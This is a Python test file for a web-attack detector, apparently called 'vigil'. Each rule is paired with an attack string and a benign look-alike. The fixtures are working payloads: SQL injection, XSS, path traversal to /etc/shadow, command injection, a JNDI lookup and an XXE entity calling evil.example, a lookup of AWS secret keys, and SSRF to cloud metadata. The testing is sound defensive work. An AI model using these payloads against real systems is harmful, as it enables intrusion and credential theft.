"""The rule registry, and every rule fired by an attack and kept quiet by a benign look-alike."""

from __future__ import annotations

import pytest

from vigil.processors.threat.analysis import Kind, analyse
from vigil.processors.threat.behaviour import BEHAVIOURAL_RULES
from vigil.processors.threat.rules import CATEGORIES, RULES, detection
from vigil.processors.threat.verdict import ATTACK_THRESHOLD, verdict

# rule id: (kind of value, an attack that fires it, a benign look-alike that does not make it fire)
EXAMPLES: dict[str, tuple[Kind, str, str]] = {
    "sqli.tautology": (Kind.PARAM, "x' OR '1'='1", "1 or 2 bedrooms"),
    "sqli.union": (
        Kind.PARAM,
        "-1 UNION SELECT username, password FROM users",
        "Union Square, select a date",
    ),
    "sqli.stacked": (Kind.PARAM, "1; DROP TABLE users", "great product; drop me a line"),
    "sqli.comment-truncation": (Kind.PARAM, "admin'--", "Thanks -- John"),
    "sqli.time-delay": (Kind.PARAM, "1 AND SLEEP(5)", "Sleep apnea (5 nights) study"),
    "sqli.quote-break": (Kind.PARAM, "x' = '", "it's 5 o'clock = tea time"),
    "sqli.boolean-blind": (Kind.PARAM, "1 AND ASCII(SUBSTRING(user(),1,1))>64", "a=1 and b=2"),
    "sqli.clause": (Kind.PARAM, "1' ORDER BY 10--", "order by phone: 555-0134"),
    "sqli.subquery": (Kind.PARAM, "(SELECT password FROM users)", "(select one)"),
    "sqli.system-probe": (Kind.PARAM, "1 or 1=@@version--", "information schema documentation"),
    "sqli.statement": (Kind.PARAM, "select version();", "select the best option"),
    "sqli.comment-evasion": (Kind.PARAM, "1/**/UNION/**/SELECT/**/1,2", "5 /* approx */ dollars"),
    "xss.script-tag": (Kind.PARAM, "<script>alert(1)</script>", "JavaScript tutorial for beginners"),
    "xss.event-handler": (Kind.PARAM, "<img src=x onerror=alert(1)>", "onload event not firing"),
    "xss.js-url": (Kind.PARAM, '<a href="javascript:alert(1)">x</a>', "javascript: the good parts"),
    "xss.dangerous-tag": (
        Kind.PARAM,
        '<iframe src="https://evil.example/"></iframe>',
        "<b>bold</b> and <i>it</i>",
    ),
    "xss.css-injection": (
        Kind.PARAM,
        '<div style="width: expression(alert(1))">',
        "color: red; margin: 0 auto",
    ),
    "xss.js-break": (Kind.PARAM, "';alert(String.fromCharCode(88,83,83))//", "Hey'; alert me tomorrow"),
    "xss.css-break": (
        Kind.PARAM,
        '<div style="font-family:foo}body{background:url(//evil.example/x)">',
        "<p style=\"font-family: 'Segoe UI', Arial; color: #333\">Hi</p>",
    ),
    "xss.external-entity": (
        Kind.PARAM,
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://evil.example/x">]><x>&xxe;</x>',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    ),
    "traversal.dot-dot": (Kind.PARAM, "../../../etc/hosts", "images/logo.png"),
    "traversal.dot-evasion": (Kind.PARAM, "....//....//....//", "Hmm... not sure"),
    "traversal.os-file": (Kind.PARAM, "/etc/passwd", "passwd command not working"),
    "traversal.file-url": (Kind.PARAM, "file:///etc/shadow", "file not found"),
    "cmdi.separator": (Kind.PARAM, "127.0.0.1; cat /etc/hosts", "cat food; dog food"),
    "cmdi.substitution": (Kind.PARAM, "$(whoami)", "$(document).ready(function() { init(); });"),
    "cmdi.ssi": (Kind.PARAM, '<!--#exec cmd="ls"-->', "<!-- comment -->"),
    "cmdi.code-exec": (Kind.PARAM, "\";system('id');\"", "the system (id card) renewal"),
    "cmdi.command-line": (Kind.PARAM, "/usr/bin/id", "/usr/share/docs"),
    "jndi.lookup": (Kind.PARAM, "${jndi:ldap://evil.example/a}", "${price} per unit"),
    "jndi.env-lookup": (Kind.PARAM, "${env:AWS_SECRET_ACCESS_KEY}", "${environment} variables"),
    "ssti.arithmetic-probe": (Kind.PARAM, "{{7*7}}", "{{ user.name }}"),
    "ssti.object-traversal": (
        Kind.PARAM,
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ user.class_name }}",
    ),
    "ssrf.cloud-metadata": (
        Kind.PARAM,
        "http://169.254.169.254/latest/meta-data/",
        "https://169.254.0.1.nip.io/",
    ),
    "ssrf.loopback": (Kind.PARAM, "http://localhost:8080/admin", "https://localhost.example.com/"),
    "ssrf.obfuscated-ip": (Kind.PARAM, "http://2130706433/", "3.14159"),
    "ssrf.private-host": (Kind.PARAM, "http://10.0.0.5/admin", "http://100.64.0.1.example/"),
    "ssrf.scheme": (Kind.PARAM, "gopher://internal:6379/_INFO", "ftp://files.example.org/pub/readme.txt"),
    "scanner.user-agent": (
        Kind.USER_AGENT,
        "sqlmap/1.8.3#stable (https://sqlmap.org)",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    ),
}


def test_every_rule_has_an_example_and_a_look_alike():
    # The behavioural rules fire on patterns over time, not values: see test_behaviour.py.
    assert set(EXAMPLES) == set(RULES) - BEHAVIOURAL_RULES


def test_rule_ids_are_stable_names_in_their_category():
    for rule_id, rule in RULES.items():
        assert rule.id == rule_id
        assert rule.category in CATEGORIES
        assert rule_id.startswith(rule.category + ".")
        assert 0 < rule.score <= 1
        assert rule.description and "\n" not in rule.description and len(rule.description) < 100


@pytest.mark.parametrize("rule_id", sorted(EXAMPLES))
def test_the_attack_fires_the_rule(rule_id):
    kind, attack, _ = EXAMPLES[rule_id]
    result = verdict(analyse(attack, kind))
    assert result is not None and rule_id in result.rules, result
    if RULES[rule_id].score >= ATTACK_THRESHOLD:
        assert result.score >= ATTACK_THRESHOLD
    assert RULES[rule_id].category in result.categories


@pytest.mark.parametrize("rule_id", sorted(EXAMPLES))
def test_the_look_alike_keeps_it_quiet(rule_id):
    kind, _, look_alike = EXAMPLES[rule_id]
    result = verdict(analyse(look_alike, kind))
    assert result is None or (rule_id not in result.rules and result.score < ATTACK_THRESHOLD), result


def test_strength_scales_the_rules_score():
    assert detection("sqli.union").score == RULES["sqli.union"].score
    assert detection("sqli.union", 0.5).score == round(RULES["sqli.union"].score * 0.5, 3)
    assert detection("scanner.user-agent", 2.0).score == 1.0
